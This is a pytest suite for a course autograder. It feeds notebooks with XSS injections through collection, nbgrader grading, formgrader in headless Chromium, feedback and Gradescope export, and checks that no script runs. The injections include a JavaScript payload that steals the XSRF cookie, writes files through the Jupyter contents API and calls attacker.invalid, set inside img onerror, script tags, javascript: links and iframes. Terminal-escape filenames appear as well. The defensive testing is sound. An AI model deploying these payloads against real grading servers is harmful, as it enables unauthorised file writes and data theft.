"""What a student wrote is data (DESIGN, "Integrity"; issue 20): a class of injection notebooks
goes through the TA's whole loop: collect (a Canvas zip and a Moodle folder), grade, formgrader
in headless Chromium (the TA opens every submission), feedback (ours and nbgrader's), export,
and the Gradescope path. No script runs, no request leaves the page's own, no file is written,
the gradebook holds every student, late penalties follow the LMS's times, and every answer is
shown as text."""
import csv
import json
import os
import subprocess
import sys
import urllib.request
import zipfile
from datetime import timedelta

import pytest

from assignments.lstm.samples import solved
from autograder.integrations.gradescope import DEFAULT_VISIBILITY, to_gradescope, written_answers
from autograder.outputs import student_text
from tests.conftest import run_cli
from tests.test_gradescope import built, gradescope  # noqa: F401  (built: the zip, a fixture)
from tests.test_ta_loop import (answered, browser_page, gradebook, jupyter_server, notebook_bytes, open_when_up,
                                rows, zip_entry)

ROSTER = ("Student,ID,SIS User ID,SIS Login ID,Section,lstm (777)\n    Points Possible,,,,,24\n"
          + "".join(f"\"Student {n}\",{n},S{n},s{n},A\n" for n in ("100001", "100002", "100003", "100004", "100005")))


def payload(name):
    """Script that, if it ever runs in the TA's browser, marks the page, writes a file into the
    course through the Jupyter server's contents API and calls a host outside."""
    return ("window.PWNED=1;var m=document.cookie.match(/_xsrf=([^;]+)/);"
            f"fetch('/api/contents/PWNED_{name}.txt',{{method:'PUT',headers:{{'Content-Type':'application/json',"
            "'X-XSRFToken':m?decodeURIComponent(m[1]):''},body:JSON.stringify({type:'file',format:'text',"
            f"content:'pwned'}})}});fetch('http://attacker.invalid/{name}')")


IMG = f'An additive update. <img src=x onerror="{payload("img")}"> $c_t = f_t c_{{t-1}} + i_t g_t$'
SCRIPT = f"<script>{payload('script')}</script>\n\nSee [my notes](javascript:{payload('link')})"
ADDED_CELL = (f'<iframe src="javascript:{payload("iframe")}"></iframe>\n<form action="http://attacker.invalid/form">'
              '<input name=q></form>\n<style>body {display: none}</style>\n![x](data:image/svg+xml;base64,PHN2Zz4=)')
SAFE = "The gradient of $c_t$ flows through $f_t$ only: **no squashing**, see [Hochreiter](https://doi.org/10.1162)."
ODD_NAME = "lstm\x1b[2J\x1b]0;owned\x07\u202e.ipynb"


def cell_with(notebook, grade_id):
    """The cell of a notebook dict with that nbgrader grade id."""
    return next(c for c in notebook["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def injections(config):
    """Canvas user id -> the notebook that student uploads: 100001 answers with an `<img
    onerror>`, a `<script>` and a `javascript:` link and adds an iframe/form/style cell and a raw
    HTML cell; 100002 pairs itself with jupytext, carries widget state and unknown keys (and a
    safe answer); 100003 turns its written answer into a task cell worth 50 and a check cell
    into an unlocked one worth 100; 100004 is correct (uploaded under an odd name)."""
    correct = solved()(config)
    xss = answered(answered(solved()(config), IMG), SCRIPT, "q_compare")
    xss["cells"].insert(3, {"cell_type": "markdown", "metadata": {}, "source": ADDED_CELL, "id": "added"})
    xss["cells"].insert(4, {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "id": "raw",
                            "source": f"<img src=x onerror=\"{payload('raw')}\">"})
    paired = answered(solved()(config), SAFE)
    paired["metadata"]["jupytext"] = {"formats": "autograded///ipynb,tests///test_/py:percent"}
    paired["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    paired["metadata"]["surprise"] = {"any": "thing"}
    cell_with(paired, "q_cell_state")["metadata"]["jupytext"] = {"cell_marker": "'''"}
    flipped = answered(solved()(config), "My answer, graded as a task of my own.")
    flags = cell_with(flipped, "q_cell_state")["metadata"]["nbgrader"]
    flags.update(grade=False, solution=False, task=True, points=50)
    cell_with(flipped, "check_sigmoid")["metadata"]["nbgrader"].update(points=100, locked=False)
    return {"100001": xss, "100002": paired, "100003": flipped, "100004": correct}


@pytest.fixture(scope="module")
def attack(tmp_path_factory, config):
    """The class collected, graded, given feedback; returns the paths and the CLI outputs."""
    tmp = tmp_path_factory.mktemp("content")
    due, notebooks = config.late.due, injections(config)
    canvas = tmp / "submissions.zip"
    with zipfile.ZipFile(canvas, "w") as archive:
        for student, notebook in notebooks.items():
            name = ODD_NAME if student == "100004" else "lstm.ipynb"
            zip_entry(archive, f"s{student}_{student}_5{student[1:]}_{name}", notebook_bytes(notebook),
                      due - timedelta(hours=1))
    moodle = tmp / "moodle"
    for pid, moment in (("200001", due + timedelta(days=2, hours=1)),
                        ("200002", config.late.zero_after + timedelta(hours=1))):
        folder = moodle / f"Late Student_{pid}_assignsubmission_file_"
        folder.mkdir(parents=True)
        (folder / "lstm.ipynb").write_bytes(notebook_bytes(answered(solved()(config), IMG)))
        (folder / "timestamp.txt").write_text((due - timedelta(days=1)).strftime("%Y-%m-%d %H:%M:%S.%f UTC\n"))
        for path in folder.iterdir():
            os.utime(path, (moment.timestamp(), moment.timestamp()))
    (tmp / "roster.csv").write_text(ROSTER)
    root, course, out = tmp / "submitted", tmp / "course", tmp / "out"
    collected = [run_cli("collect", str(canvas), "--assignment", "lstm", "--into", str(root),
                         "--roster", str(tmp / "roster.csv")),
                 run_cli("collect", str(moodle), "--assignment", "lstm", "--into", str(root))]
    for done in collected:
        assert done.returncode == 0, done.stdout + done.stderr
    graded = run_cli("grade", str(root), "--assignment", "lstm", "--out", str(out),
                     "--gradebook", str(course / "gradebook.db"), "--jobs", "2")
    assert graded.returncode == 0, graded.stdout + graded.stderr
    feedback = run_cli("feedback", "--assignment", "lstm", "--out", str(out),
                       "--gradebook", str(course / "gradebook.db"))
    assert feedback.returncode == 0, feedback.stdout + feedback.stderr
    env = {**os.environ, "PATH": os.path.dirname(sys.executable) + os.pathsep + os.environ["PATH"]}
    nbgrader = subprocess.run([os.path.join(os.path.dirname(sys.executable), "nbgrader"), "generate_feedback", "lstm"],
                              cwd=course, env=env, capture_output=True, text=True, timeout=600)
    assert nbgrader.returncode == 0, nbgrader.stdout + nbgrader.stderr
    return tmp, root, course, out, collected, graded


def shown_notebook(course, student, config):
    """The graded notebook formgrader shows for a student."""
    return json.loads((course / "autograded" / student / "lstm" / config.notebook).read_text())


def test_collect_takes_times_from_the_lms_and_prints_no_control_characters(attack, config):
    tmp, root, _, _, (canvas, moodle), _ = attack
    for done in (canvas, moodle):
        assert not [ch for ch in done.stdout + done.stderr if ch not in "\n" and not ch.isprintable()]
    assert "renamed to lstm.ipynb" in canvas.stdout and "lstm[2J]0;owned.ipynb" in canvas.stdout
    assert "timestamp.txt inside a submission, not read" in moodle.stdout
    stamp = (root / "200001" / "lstm" / "timestamp.txt").read_text().strip()
    assert stamp == (config.late.due + timedelta(days=2, hours=1)).strftime("%Y-%m-%d %H:%M:%S.%f UTC")


def test_the_gradebook_holds_every_student_and_late_penalties_follow_the_lms(attack, config):
    tmp, root, course, out, _, graded = attack
    students = ["100001", "100002", "100003", "100004", "100005", "200001", "200002"]
    assert sorted(rows(out / "grades.csv")) == students
    with gradebook(course) as gb:
        assert sorted(s.student.id for s in gb.find_assignment("lstm").submissions) == students
        # the flipped written answer is the release's manual question again, waiting for a TA
        flipped = gb.find_grade("q_cell_state", "lstm", "lstm", "100003")
        assert flipped.max_score == 2 and flipped.needs_manual_grade
        assert gb.find_grade("check_sigmoid", "lstm", "lstm", "100003").max_score == 1
        # three days late (10 % of 24 a started day): 7.2; after zero_after: everything
        assert gb.find_submission("lstm", "200001").late_submission_penalty == pytest.approx(7.2)
        assert gb.find_submission("lstm", "200002").late_submission_penalty == pytest.approx(18)
    got = rows(out / "grades.csv")
    assert float(got["200001"]["total"]) == pytest.approx(18 - 7.2) and float(got["200002"]["total"]) == 0
    assert "cannot be scored" not in graded.stderr


def test_graded_notebooks_carry_the_release_metadata_and_answers_as_text(attack, config):
    _, _, course, _, _, _ = attack
    release = json.loads((config.release_dir / config.notebook).read_text())
    release_cells = {c["id"]: c for c in release["cells"]}
    for student in ("100001", "100002", "100003", "100004"):
        notebook = shown_notebook(course, student, config)
        assert notebook["metadata"] == release["metadata"], student
        for cell in notebook["cells"]:
            if cell["id"] in release_cells:
                assert cell["metadata"] == release_cells[cell["id"]]["metadata"], (student, cell["id"])
                assert cell["cell_type"] == release_cells[cell["id"]]["cell_type"]
            else:
                assert cell["metadata"] == {}, (student, cell["id"])
            source = "".join(cell["source"])
            if cell["cell_type"] != "code" and source != "".join(release_cells.get(cell["id"], {}).get("source", "")):
                assert student_text.is_safe_markdown(source), (student, source)     # the release's own is kept
    xss = shown_notebook(course, "100001", config)
    assert not [c for c in xss["cells"] if c["cell_type"] == "raw"]
    text = json.dumps(xss)
    assert "onerror" in text and student_text.VERBATIM_NOTE in text        # shown, as text
    paired = shown_notebook(course, "100002", config)
    assert "".join(cell_with(paired, "q_cell_state")["source"]) == SAFE     # safe markdown is kept as written


def test_the_ta_opens_every_submission_and_feedback_and_no_script_runs(attack, config):
    """Formgrader's page of every submission and every feedback page, in headless Chromium:
    no script marks the page, no request goes beyond what a clean page asks for, no file
    appears. A control (the attack's answer put back raw into one graded notebook) shows
    that the same pages would run it."""
    _, root, course, out, _, _ = attack
    with gradebook(course) as gb:
        ids = {s.student.id: s.notebooks[0].id for s in gb.find_assignment("lstm").submissions
               if (course / "autograded" / s.student.id).exists()}
    assert set(ids) >= {"100001", "100002", "100003", "100004", "200001", "200002"}
    before = sorted(p for p in course.rglob("*") if p.is_file())
    seen = []
    with browser_page() as page, jupyter_server(course) as (base, server):
        page.on("request", lambda request: seen.append(request.url.split("?")[0]))
        open_when_up(page, f"{base}/formgrader/submissions/{ids['100004']}/?index=0", server)
        page.wait_for_timeout(1500)
        clean = set(seen) - {f"{base}/formgrader/submissions/{ids['100004']}/"}

        def visit(url):
            seen.clear()
            page.goto(url)
            page.wait_for_timeout(1500)
            extra = {u for u in seen if u not in clean and u != url.split("?")[0]}
            return extra, page.evaluate("window.PWNED"), page.query_selector_all(
                "[onerror], iframe, form[action*='attacker'], a[href^='javascript' i], img[src^='http']")

        for student, submission in sorted(ids.items()):
            extra, marked, elements = visit(f"{base}/formgrader/submissions/{submission}/?index=0")
            assert not extra and marked is None and not elements, (student, extra, marked)
            assert "onerror" in page.inner_text("body") or student not in ("100001", "200001")
        pages = [*(out / "feedback").glob("*.html"), *(course / "feedback").rglob("*.html")]
        assert len(pages) >= 10
        for path in pages:
            seen.clear()
            page.goto(path.as_uri())
            page.wait_for_timeout(500)
            external = {u for u in seen if not u.startswith("file://") and u not in clean}
            assert not external and page.evaluate("window.PWNED") is None, (path, external)
        assert sorted(p for p in course.rglob("*") if p.is_file()) == before
        assert not list(course.rglob("PWNED*"))

        # the control: the same answer put back raw into the notebook formgrader opens runs
        # (formgrader needs inline scripts, so the course's Content-Security-Policy lets it) and
        # writes through the contents API; only its call outside is stopped by that policy
        target = course / "autograded" / "100001" / "lstm" / config.notebook
        control = json.loads(target.read_text())
        cell_with(control, "q_cell_state")["source"] = IMG
        target.write_text(json.dumps(control))
        extra, marked, _ = visit(f"{base}/formgrader/submissions/{ids['100001']}/?index=0")
        assert marked == 1 and not [u for u in extra if "attacker" in u], extra
        page.wait_for_timeout(1000)
    assert list(course.rglob("PWNED_img.txt")), "the control did not run: this test would not see an attack"


def save_through_jupyter(base, server, path, content):
    """What JupyterLab does when a TA saves a notebook: PUT it through the contents API (with
    the server's XSRF cookie and header, as the browser sends them)."""
    import http.cookiejar
    import time
    import nbformat
    jar = http.cookiejar.CookieJar()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
    for _ in range(120):
        try:
            opener.open(f"{base}/lab", timeout=5)
            break
        except OSError:
            assert server.poll() is None, server.stderr.read()
            time.sleep(0.5)
    xsrf = next(c.value for c in jar if c.name == "_xsrf")
    content = nbformat.reads(json.dumps(content), as_version=4)      # sources as strings, as JupyterLab sends them
    body = json.dumps({"type": "notebook", "format": "json", "content": content}).encode()
    request = urllib.request.Request(f"{base}/api/contents/{path}", data=body, method="PUT",
                                     headers={"Content-Type": "application/json", "X-XSRFToken": xsrf})
    assert opener.open(request, timeout=30).status in (200, 201)


def test_saving_a_graded_notebook_in_jupyter_writes_nothing_else(attack, config):
    """A TA opens and saves a student's graded (or collected) notebook in a Jupyter where
    jupytext's contents manager is active (a plain `jupyter server` of this venv): no paired
    file appears next to it or under tests/. The control, the student's own notebook saved the
    same way, writes the pair."""
    _, root, course, _, _, _ = attack
    collected = json.loads((root / "100002" / "lstm" / config.notebook).read_text())
    assert set(collected["metadata"]) <= {"kernelspec", "language_info"}
    def files():
        return sorted(p for p in course.rglob("*") if p.is_file() and ".ipynb_checkpoints" not in p.parts)
    before = files()
    path = "autograded/100002/lstm/" + config.notebook
    graded = json.loads((course / path).read_text())
    with jupyter_server(course, course_config=False) as (base, server):
        save_through_jupyter(base, server, path, graded)
        assert files() == before
        uploaded = injections(config)["100002"]
        save_through_jupyter(base, server, path, uploaded)      # what the notebook was before issue 20
    pair = course / "tests" / "100002" / "lstm" / "test_lstm.py"
    assert pair.is_file(), "the control wrote no pair"
    pair.unlink()
    # the course's own Jupyter (the command `grade` prints) pairs nothing, whatever the metadata
    with jupyter_server(course) as (base, server):
        save_through_jupyter(base, server, path, uploaded)
    assert not pair.exists()
    (course / path).write_text(json.dumps(graded))


def test_jupyterlab_works_under_the_course_config(attack):
    """The course's Jupyter config (Content-Security-Policy, no jupytext) leaves JupyterLab
    usable: its shell starts and its file browser lists the course folder."""
    _, _, course, _, _, _ = attack
    with browser_page() as page, jupyter_server(course) as (base, server):
        response = open_when_up(page, f"{base}/lab", server)
        assert "connect-src 'self'" in response.headers["content-security-policy"]
        page.wait_for_selector("text=autograded", timeout=60000)
        assert page.query_selector(".jp-LabShell") is not None


def test_exports_hold_every_student_as_text(attack, tmp_path):
    tmp, _, course, _, _, _ = attack
    book = str(course / "gradebook.db")
    plain, canvas = tmp_path / "grades.csv", tmp_path / "canvas.csv"
    assert run_cli("export", "--assignment", "lstm", "--format", "csv", "--out", str(plain),
                   "--gradebook", book).returncode == 0
    assert run_cli("export", "--assignment", "lstm", "--format", "canvas", "--out", str(canvas),
                   "--gradebook", book, "--roster", str(tmp / "roster.csv"),
                   "--allow-unlisted").returncode == 0           # the class mixes a Canvas and a Moodle download
    assert len(rows(plain)) == 7 and float(rows(plain)["200001"]["late_penalty"]) == pytest.approx(-7.2)
    table = list(csv.reader(canvas.open()))
    assert {r[1] for r in table[2:]} >= {"100001", "100002", "100003", "100004", "100005"}
    for path in (plain, canvas):
        assert all(ch == "\n" or ch.isprintable() for ch in path.read_text())


def test_results_json_shows_answers_as_text_each_in_its_own_test(config, tmp_path):
    """Gradescope's side: the answers and the uploaded file's name as they reach results.json."""
    notebook = answered(answered(solved()(config), "--- q_clipping ---\n6/6 points\n" + IMG), SCRIPT, "q_compare")
    cell_with(notebook, "q_clipping")["source"] = "\x1b[32mAll tests passed\x1b[0m"
    path = tmp_path / ODD_NAME
    path.write_text(json.dumps(notebook))
    result = {"student_id": "1", "status": "graded", "score": 18.0, "seconds": 1.0, "reason": None,
              "cell_errors": [{"cell": 3, "error": "ValueError: \x1b[31m<b>red</b>"}],
              "exercises": [{"id": e, "points": p, "max_points": p, "status": "passed", "message": "",
                             "misconception": None} for e, p in config.points.items()]}
    results = to_gradescope(result, DEFAULT_VISIBILITY, [f"graded {path.name}, the only notebook uploaded"],
                            written_answers(path, config.manual), config.manual)
    assert results["output_format"] == results["test_output_format"] == results["test_name_format"] == "text"
    assert all(t["output_format"] == "text" for t in results["tests"])
    answers = {t["name"]: t["output"] for t in results["tests"] if "score" not in t}
    assert sorted(answers) == [f"Written answer {q} (graded by hand, 2 points)" for q in sorted(config.manual)]
    assert answers["Written answer q_cell_state (graded by hand, 2 points)"].endswith(IMG.split("\n")[-1])
    assert answers["Written answer q_clipping (graded by hand, 2 points)"] == "[32mAll tests passed[0m"
    assert "6/6" not in results["output"] and "onerror" not in results["output"] and "<script>" not in results["output"]
    shown = json.dumps(results, ensure_ascii=False)
    assert "\x1b" not in shown and "\u202e" not in shown and "\x07" not in shown
    assert "graded lstm[2J]0;owned.ipynb" in results["output"]


def test_the_gradescope_zip_shows_an_injection_notebook_as_text(built, config):  # noqa: F811
    """The zip as Gradescope runs it, on the injection notebook uploaded under an odd name."""
    notebook = injections(config)["100001"]
    results, _ = gradescope(built, notebook_bytes(notebook), file_name=ODD_NAME)
    assert results["score"] == config.max_score and results["output_format"] == "text"
    answers = {t["name"]: t for t in results["tests"] if "score" not in t}
    assert answers["Written answer q_cell_state (graded by hand, 2 points)"]["output"] == IMG
    assert answers["Written answer q_compare (graded by hand, 2 points)"]["output"] == SCRIPT
    assert all(t["output_format"] == "text" for t in results["tests"])
    shown = json.dumps(results, ensure_ascii=False)
    assert "\x1b" not in shown and "\u202e" not in shown and "graded lstm[2J]0;owned.ipynb" in results["output"]


def test_markdown_and_latex_stay_and_raw_html_is_shown_as_text():
    """student_text on its own: what is safe is kept as written; what is not is shown verbatim."""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune
    for kept in (SAFE, "YOUR ANSWER HERE", "a < b, `x<y`, $a<b$ and\n\n```\n<script>\n```"):
        assert student_text.safe_markdown(kept) == kept
    for unsafe in (IMG, SCRIPT, ADDED_CELL, "[x](JaVaScRiPt:alert(1))", "[a][r]\n\n[r]: data:text/html,x",
                   "![t](http://attacker.invalid/pixel.png)", "<https://ok.org> <b>bold</b>"):
        shown = student_text.safe_markdown(unsafe)
        rendered = markdown2html_mistune(shown)
        assert "<img" not in rendered and "<script" not in rendered and "href=\"javascript" not in rendered.lower()
        assert "attacker.invalid" not in rendered or "<pre><code>" in rendered
    assert student_text.printable("a\x1b[31mb\x9b\u202ec\n", newlines=True) == "a[31mbc\n"
    assert student_text.safe_attachments({"a.png": {"image/png": "iVBOR"}, "b.svg": {"image/svg+xml": "<svg/>"}}) == {
        "a.png": {"image/png": "iVBOR"}}


def test_a_moodle_download_of_one_student_keeps_its_folder_and_the_lms_time(tmp_path, config):
    """One participant's folder alone is no wrapper to look through (it names the participant),
    and the timestamp.txt in it is the student's file, not Moodle's record."""
    folder = tmp_path / "download" / "Solo Student_200009_assignsubmission_file_" / "lstm"
    folder.mkdir(parents=True)
    (folder / "lstm.ipynb").write_bytes(notebook_bytes(solved()(config)))
    (folder / "timestamp.txt").write_text("2020-01-01 00:00:00.000000 UTC\n")
    moment = config.late.due + timedelta(days=1)
    os.utime(folder / "lstm.ipynb", (moment.timestamp(), moment.timestamp()))
    done = run_cli("collect", str(tmp_path / "download"), "--assignment", "lstm", "--into", str(tmp_path / "root"))
    assert done.returncode == 0, done.stdout + done.stderr
    stamp = (tmp_path / "root" / "200009" / "lstm" / "timestamp.txt").read_text().strip()
    assert stamp == moment.strftime("%Y-%m-%d %H:%M:%S.%f UTC")
    assert "timestamp.txt inside a submission, not read" in done.stdout


def test_the_course_id_is_read_without_running_the_course_config(tmp_path):
    """nbgrader_config.py lies where Jupyter serves files: the grader reads it, never runs it."""
    from autograder.outputs.gradebook import course_id
    ran = tmp_path / "ran.txt"
    (tmp_path / "nbgrader_config.py").write_text(
        f"c = get_config()\nopen({str(ran)!r}, 'w').write('ran')\n"
        "c.CourseDirectory.course_id = 'course-42'\nc.CourseDirectory.root = '/elsewhere'\n")
    assert course_id(tmp_path) == "course-42" and not ran.exists()
    (tmp_path / "nbgrader_config.py").write_text("c = get_config()\nc.CourseDirectory.course_id = 'x' + 'y'\n")
    assert course_id(tmp_path) == "lstm-course"          # not a plain string: the repository's course


def test_a_notebook_nbgrader_cannot_score_costs_only_that_notebook(tmp_path, config, monkeypatch, capsys):
    """Should nbgrader still fail on one notebook's cells, that student is recorded as if the
    notebook had none (the grader's points on the check cells, 0 and the reason on the written
    answers) and named, and the classmates' grades are written."""
    from nbgrader import utils
    from autograder.outputs import gradebook as book
    determine_grade = utils.determine_grade

    def failing(cell, *args, **kwargs):
        if "RAISE-HERE" in cell.source:
            raise ValueError("nbgrader cannot score this cell")
        return determine_grade(cell, *args, **kwargs)
    monkeypatch.setattr(utils, "determine_grade", failing)
    submissions, results = [], []
    for student, text in (("odd", "RAISE-HERE"), ("fine", "An answer.")):
        path = tmp_path / "submitted" / student / "lstm" / config.notebook
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps(answered(solved()(config), text)))
        submissions.append((student, path))
        results.append({"student_id": student, "status": "graded", "score": 18.0, "reason": None,
                        "exercises": [{"id": e, "points": p, "max_points": p, "status": "passed", "message": "",
                                       "misconception": None} for e, p in config.points.items()]})
    book.write(config, results, submissions, tmp_path / "course" / "gradebook.db")
    why = "nbgrader could not score this notebook's cells (ValueError: nbgrader cannot score this cell)"
    assert f"gradebook: odd: {why}" in capsys.readouterr().err
    with gradebook(tmp_path / "course") as gb:
        assert gb.find_submission("lstm", "fine").score == 18
        assert gb.find_grade("q_cell_state", "lstm", "lstm", "fine").needs_manual_grade
        odd = gb.find_submission("lstm", "odd")
        assert odd.score == 18 and not odd.needs_manual_grade
        assert gb.find_comment("q_cell_state", "lstm", "lstm", "odd").auto_comment.startswith(why)
    assert not (tmp_path / "course" / "autograded" / "odd").exists()


def test_collect_says_where_canvas_late_mark_and_the_time_disagree(tmp_path, config):
    """Canvas's LATE_ mark is its own verdict (its due dates and extensions): where it and the
    zip's time against grading.yml disagree, collect says so, next to the student."""
    due, canvas = config.late.due, tmp_path / "submissions.zip"
    with zipfile.ZipFile(canvas, "w") as archive:
        zip_entry(archive, "early_LATE_300001_600001_lstm.ipynb", b"{}", due - timedelta(hours=3))
        zip_entry(archive, "extended_300002_600002_lstm.ipynb", b"{}", due + timedelta(days=2))
        zip_entry(archive, "plain_300003_600003_lstm.ipynb", b"{}", due - timedelta(hours=3))
    done = run_cli("collect", str(canvas), "--assignment", "lstm", "--into", str(tmp_path / "root"))
    lines = {line.split()[0]: line for line in done.stdout.splitlines() if line.startswith("  3000")}
    assert "Canvas marks it LATE, but by grading.yml's due date it is on time" in lines["300001"]
    assert "Canvas does not mark it LATE, but by grading.yml's due date it is late" in lines["300002"]
    assert "Canvas" not in lines["300003"].split("<-")[1].split("(")[1]
